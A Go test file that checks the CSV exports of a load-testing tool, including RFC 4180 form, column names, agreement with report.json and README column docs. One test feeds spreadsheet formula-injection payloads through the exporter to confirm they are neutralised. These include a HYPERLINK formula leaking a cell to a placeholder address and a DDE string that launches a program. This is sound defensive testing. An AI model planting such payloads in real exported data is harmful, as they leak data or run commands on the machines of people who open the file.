package report

import (
	"encoding/csv"
	"fmt"
	"os"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"

	"authlab/loadtest/analysis"
	"authlab/loadtest/measure"
	"authlab/loadtest/message"
	"authlab/loadtest/record"
)

// tablesOf are a run's tables for spreadsheets, as they are read again.
func tablesOf(t *testing.T, a *analysis.Analysis) map[string][][]string {
	t.Helper()
	all := map[string][][]string{}
	for name, write := range map[string]func(*analysis.Analysis) ([]byte, error){
		"measurements.csv": measurements,
		"figures.csv":      func(a *analysis.Analysis) ([]byte, error) { return figures(dataOf(a)) },
	} {
		text, err := write(a)
		if err != nil {
			t.Fatal(err)
		}
		if lines := strings.SplitAfter(string(text), "\n"); lines[len(lines)-1] != "" ||
			slices.ContainsFunc(lines[:len(lines)-1], func(l string) bool { return !strings.HasSuffix(l, "\r\n") }) {
			t.Errorf("a line of %s does not end as RFC 4180 says", name)
		}
		r := csv.NewReader(strings.NewReader(string(text))) // it refuses lines of unequal length, and stray quotes
		if all[name], err = r.ReadAll(); err != nil {
			t.Errorf("%s: %v", name, err)
		}
	}
	return all
}

// TestTablesAreForSpreadsheets: one table a file, below one line of names.
func TestTablesAreForSpreadsheets(t *testing.T) {
	name := regexp.MustCompile(`^[a-z][a-z0-9_]*$`)
	for run, r := range runs() {
		for file, lines := range tablesOf(t, analysed(r)) {
			for i, column := range lines[0] {
				if !name.MatchString(column) || slices.Contains(lines[0][:i], column) {
					t.Errorf("%s of %s: no name of a column: %q", file, run, column)
				}
			}
			for _, line := range lines[1:] {
				if line[0] == lines[0][0] {
					t.Errorf("%s of %s has a second line of names", file, run)
				}
			}
		}
	}
}

// formula matches what a spreadsheet may compute, or take apart.
var formula = regexp.MustCompile(`^[=+\-@＝＋－＠]|[\t\r\n]`)

// TestTextsAreNoFormulas: a server chooses its name, and its words may end up in the doubts about a slice.
func TestTextsAreNoFormulas(t *testing.T) {
	for _, hostile := range []string{
		`=HYPERLINK("http://192.0.2.1/?"&A1,"more")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "＝1+1", "\t=1+1",
		"\r=1+1", "\n=1+1",
	} {
		a := analysis.Compare(runs()["empty"])
		a.TargetReplicas = []analysis.TargetReplica{{Name: hostile, Share: 1}}
		a.Measurements = []measure.Measurement{{
			Cell:   record.Cell{Scheme: hostile, Tier: hostile},
			Doubts: []measure.Doubt{{Reason: measure.Reason(hostile), Said: message.Text("why")}},
		}}
		found := 0
		for file, lines := range tablesOf(t, a) {
			for _, line := range lines[1:] {
				for _, cell := range line {
					_, notNumber := strconv.ParseFloat(cell, 64)
					if formula.MatchString(cell) && notNumber != nil {
						t.Errorf("%s has %q", file, cell)
					}
					if strings.Contains(cell, strings.TrimLeft(hostile, "\t\r\n")) {
						found++
					}
				}
			}
		}
		if found != 4 {
			t.Errorf("%q is shown in %d cells, not in 4", hostile, found)
		}
	}
	for _, number := range []string{"-0.5", "+1", "-3e-05", "7", ""} {
		if harmless(number) != number {
			t.Errorf("%q became %q", number, harmless(number))
		}
	}
}

// TestFiguresAreTheReports: a line has the figure of report.json, and says of what it is.
func TestFiguresAreTheReports(t *testing.T) {
	a := analysed(runs()["full"])
	lines := tablesOf(t, a)["figures.csv"]
	find := func(want map[string]string) (found []string) {
		for _, line := range lines[1:] {
			if !slices.ContainsFunc(lines[0], func(name string) bool {
				text, asked := want[name]
				return asked && line[slices.Index(lines[0], name)] != text
			}) {
				found = append(found, strings.Join(line[slices.Index(lines[0], "value"):], " "))
			}
		}
		return found
	}
	number := func(v float64) string { return strconv.FormatFloat(v, 'g', -1, 64) }
	for _, x := range a.Scaling {
		e := x.Control
		want := fmt.Sprintf("%s %s %s %d ", number(e.Center), number(e.Low), number(e.High), e.N)
		got := find(map[string]string{
			"section": "scaling", "scheme": x.Name, "replicas": strconv.Itoa(x.Replicas), "figure": "ratio_to_control",
		})
		if !slices.Equal(got, []string{want}) {
			t.Errorf("%s × %d: %q, want %q", x.Name, x.Replicas, got, want)
		}
	}
	for _, l := range a.Latency {
		of := map[string]string{
			"section": "latency", "scheme": l.Name, "rate_per_s": number(l.Rate), "figure": "from_sent.p50_ns",
		}
		if got := find(of); !slices.Equal(got, []string{fmt.Sprintf("%d    ", l.Sent.P50)}) {
			t.Errorf("%s at %g/s: %q, want %d", l.Name, l.Rate, got, l.Sent.P50)
		}
	}
	for section, columns := range map[string][]string{
		"memory.sizes": {"scheme", "logins"}, "delays": {"scheme"}, "tiers": {"scheme", "tier"},
	} {
		of := lines[slices.IndexFunc(lines, func(l []string) bool { return l[0] == section })]
		for _, name := range columns {
			if of[slices.Index(lines[0], name)] == "" {
				t.Errorf("a figure of %s does not say its %s: %q", section, name, of)
			}
		}
	}
}

// TestWithheldFiguresAreNoZeros: a quantile that is withheld is 0 in report.json, and would be drawn as one.
func TestWithheldFiguresAreNoZeros(t *testing.T) {
	for _, line := range tablesOf(t, analysed(runs()["full"]))["figures.csv"] {
		if figure := line[slices.Index(figuresHead, "figure")]; withheldQuantile.MatchString(figure) &&
			line[slices.Index(figuresHead, "value")] == "0" {
			t.Errorf("a quantile is 0: %q", line)
		}
	}
}

// TestREADMEDescribesTheColumns: results/README.md says what each column is, in their order.
func TestREADMEDescribesTheColumns(t *testing.T) {
	page, err := os.ReadFile("../../results/README.md")
	if err != nil {
		t.Fatal(err)
	}
	var head []string
	for _, c := range columns() {
		head = append(head, c.name)
	}
	for file, want := range map[string][]string{"measurements.csv": head, "figures.csv": figuresHead} {
		_, section, _ := strings.Cut(string(page), "\n## "+file+"\n")
		section, _, _ = strings.Cut(section, "\n## ")
		var told []string
		for _, line := range regexp.MustCompile("(?m)^\\| (`[^|]*) \\|").FindAllStringSubmatch(section, -1) {
			for _, name := range strings.Split(line[1], ", ") {
				told = append(told, strings.Trim(name, "`"))
			}
		}
		if !slices.Equal(told, want) {
			t.Errorf("results/README.md has the columns %v of %s, which has %v", told, file, want)
		}
	}
}
